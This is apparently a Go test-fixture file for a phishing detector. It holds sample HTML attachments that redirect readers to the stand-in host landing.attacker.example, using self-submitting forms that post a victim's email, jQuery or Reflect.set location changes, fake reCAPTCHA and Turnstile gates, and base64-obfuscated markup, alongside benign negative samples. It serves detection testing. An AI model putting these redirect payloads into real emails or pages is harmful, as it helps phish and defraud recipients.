package heuristic

import (
	"encoding/base64"
	"strings"
)

// redirectGateCases: attached pages that send the reader on by a form
// they submit themselves, by jQuery or Reflect, or behind a fake CAPTCHA
// that waits for the reader's click (an attached page cannot run a real
// CAPTCHA); and the honest pages beside them.
func redirectGateCases() map[string][]sample {
	return map[string][]sample{"html-redirect-attachment": {
		{"form submitted on load", pageAttach("Remittance.html", `<body onload="document.forms[0].submit()"><form action="https://landing.attacker.example/p" method="post"><input type=hidden name=e value="victim@example.com"></form></body>`), "2"},
		{"form submitted by the script", pageAttach("a.html", `<form id=f action="https://landing.attacker.example/p" method="post"><input type=hidden name=e value="victim@example.com"></form><script>document.getElementById("f").submit()</script>`), "2"},
		{"form requestSubmit on a timer", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<form id=f action="https://landing.attacker.example/p"></form><script>setTimeout(function(){ f.requestSubmit() }, 500)</script>`), "2"},
		{"jQuery $(location).attr", pageAttach("a.html", `<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script><script>$(function(){ $(location).attr("href", "https://landing.attacker.example/j") })</script>`), "2"},
		{"jQuery $(window).attr location", pageAttach("a.html", `<script>$(window).attr('location', 'https://landing.attacker.example/w')</script>`), "2"},
		{"Reflect.set", pageAttach("a.html", `<script>Reflect.set(window, "location", "https://landing.attacker.example/r")</script>`), "2"},
		{"fake reCAPTCHA, click sends on", pageAttach("Verify.html", `<div class="box"><input type="checkbox" onclick="go()"> I'm not a robot</div><script>function go(){ setTimeout(function(){ location.replace("https://landing.attacker.example/?e=dmljdGlt") }, 800) }</script>`), "2"},
		{"Turnstile imitation written by script", pageAttach("Verify.html", `<script>document.write(atob("`+base64.StdEncoding.EncodeToString([]byte(`<h2>Verify you are human</h2><button onclick="location.href='https://landing.attacker.example/t'">Continue</button>`))+`"))</script>`), "2"},
		// honest pages
		{"form submitted on click", pageAttach("survey.html", `<form id=f action="https://survey.example.com/r"><input name=q></form><button onclick="document.getElementById('f').submit()">Send</button>`), ""},
		{"script submits a local form", pageAttach("a.html", `<form id=f action="results.html"></form><script>document.getElementById("f").submit()</script>`), ""},
		{"form and a submit by script elsewhere", pageAttach("report.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 60)+`<form action="https://www.example.com/search"><input name=q></form><script>document.querySelector("input").addEventListener("keydown", function(e){ if (e.key === "Enter") this.form.submit() })</script>`), ""},
		{"reCAPTCHA named, click opens a page", pageAttach("notice.html", `<p>Our contact form now uses reCAPTCHA.</p><button onclick="location.href='https://www.example.com/contact'">Contact</button>`), ""},
		{"Turnstile widget, click sends on", pageAttach("Verify.html", `<div class="cf-turnstile" data-sitekey="0x4AAAAAAA"></div><button onclick="location.href='https://landing.attacker.example/c'">Continue</button>`), "2"},
		{"CAPTCHA text, no script", pageAttach("notice.html", `<p>If you are asked to verify you are human, tick the box.</p><a href="https://www.example.com/">Home</a>`), ""},
		{"click handler, no CAPTCHA", pageAttach("a.html", `<button onclick="go()">Open</button><script>function go(){ location.href = "https://shop.example.com/" }</script>`), ""},
	}}
}
